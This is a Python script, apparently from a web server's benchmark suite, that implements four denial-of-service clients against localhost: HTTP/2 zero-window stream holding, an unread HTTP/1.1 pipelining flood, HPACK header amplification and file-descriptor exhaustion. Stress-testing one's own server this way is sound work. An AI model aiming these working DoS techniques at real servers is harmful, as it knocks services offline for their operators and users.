#!/usr/bin/env python3
"""attack_clients.py - the hostile clients of bench/attack that slowhttptest
does not have, each holding its connections until killed.

    attack_clients.py MODE --port PORT [--conns N]

  h2-zero-window  N HTTP/2 connections, each opening 100 streams for a large
                  file with a window of 0 and a PING every second (streams
                  that hold descriptors, a connection kept by control frames);
                  a connection the server closes is opened again
  pipeline        N HTTP/1.1 connections, each pipelining 4 MB of requests
                  and reading nothing
  hpack           N HTTP/2 connections sending header blocks of a 3.9 KB
                  field inserted once and referenced 16,000 times, again as
                  soon as the server closes the connection
  fd-exhaust      N idle connections opened as fast as the server accepts
                  them (run against a worker with a low open-files limit)

Prints "ready" once the first round is in place. Stdlib only besides the
hyperframe/hpack modules of Debian's python3-h2 (for the HTTP/2 modes).
"""

import argparse
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, sid, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", sid) + payload


def settings(window):
    return frame(4, 0, 0, struct.pack(">HI", 4, window))  # INITIAL_WINDOW_SIZE


def ping():
    return frame(6, 0, 0, b"\0" * 8)


def connect(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.setblocking(False)
    return s


def send_some(s, data):
    try:
        return s.send(data)
    except (BlockingIOError, InterruptedError):
        return 0


def drain(s):
    """Reads what is there; False once the server closed."""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                return False
    except (BlockingIOError, InterruptedError):
        return True
    except OSError:
        return False


def request_block(encoder, port, path, extra=()):
    return encoder.encode([(":method", "GET"), (":scheme", "http"),
                           (":authority", "127.0.0.1:%d" % port), (":path", path)] + list(extra))


def h2_zero_window_conn(port, path):
    import hpack
    enc = hpack.Encoder()
    s = connect(port)
    data = PREFACE + settings(0)
    for i in range(100):
        data += frame(1, 0x5, 1 + 2 * i, request_block(enc, port, path))  # END_HEADERS|END_STREAM
    s.setblocking(True)
    s.sendall(data)
    s.setblocking(False)
    return s


def hpack_payload(port):
    import hpack
    enc = hpack.Encoder()
    out = PREFACE + settings(65535)
    block = request_block(enc, port, "/plaintext", [("x-big", "b" * 3900)] * 16000)
    for sid in range(1, 13, 2):
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        for n, piece in enumerate(pieces):
            last = 0x4 if n == len(pieces) - 1 else 0
            out += frame(1 if n == 0 else 9, last | (0x1 if n == 0 else 0), sid, piece)
    return out


def run(args):
    conns, pending, started = [], {}, False
    big = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * (4 * 1024 * 1024 // 27)
    payload = hpack_payload(args.port) if args.mode == "hpack" else None
    last_ping = 0.0
    while True:
        while len(conns) < args.conns:
            try:
                if args.mode == "h2-zero-window":
                    s = h2_zero_window_conn(args.port, args.path)
                else:
                    s = connect(args.port)
            except OSError:
                time.sleep(0.05)
                break
            conns.append(s)
            pending[s] = memoryview({"pipeline": big, "hpack": payload}.get(args.mode) or b"")
        if not started and len(conns) >= args.conns:
            print("ready", flush=True)
            started = True
        now = time.monotonic()
        for s in list(conns):
            if len(pending.get(s, b"")) > 0:
                pending[s] = pending[s][send_some(s, pending[s][:262144]):]  # views: no copy
            if args.mode == "pipeline":
                continue  # reads nothing, ever
            if args.mode == "h2-zero-window" and now - last_ping >= 1:
                send_some(s, ping())
            if not drain(s):
                conns.remove(s)
                pending.pop(s, None)
                s.close()
        if args.mode == "h2-zero-window" and now - last_ping >= 1:
            last_ping = now
        time.sleep(0.05)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["h2-zero-window", "pipeline", "hpack", "fd-exhaust"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--conns", type=int, default=40)
    p.add_argument("--path", default="/big.bin")
    args = p.parse_args()
    try:
        run(args)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    sys.exit(main())
